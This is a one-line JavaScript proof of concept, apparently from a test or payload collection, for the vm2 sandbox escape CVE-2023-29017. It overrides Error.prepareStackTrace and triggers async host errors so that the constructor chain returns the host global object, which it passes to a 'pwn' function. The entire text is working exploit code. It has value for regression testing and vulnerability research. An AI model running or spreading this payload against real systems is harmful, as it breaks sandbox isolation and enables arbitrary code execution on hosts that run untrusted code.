// vm2 CVE-2023-29017: prepareStackTrace with async host errors (runAsync)
try { Object.defineProperty(Error, 'prepareStackTrace', { value: (e, s) => { pwn(e.constructor.constructor('return this')()); return 'x' } }) } catch (e) {} (async () => { try { await fetchIt(1) } catch (e) { pwn(e.constructor.constructor('return this')()) } })(); fetchIt(0).then(() => 1, () => 1)
